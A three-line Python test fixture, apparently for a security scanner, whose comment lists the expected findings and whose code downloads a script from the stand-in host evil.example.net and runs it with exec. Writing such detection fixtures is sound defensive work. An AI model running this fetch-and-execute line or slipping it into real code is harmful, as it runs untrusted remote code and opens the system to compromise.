# expect: dynamic_exec_downloaded, http_client(host=evil.example.net allowed=false)
import requests
exec(requests.get("https://evil.example.net/payload.py").text)
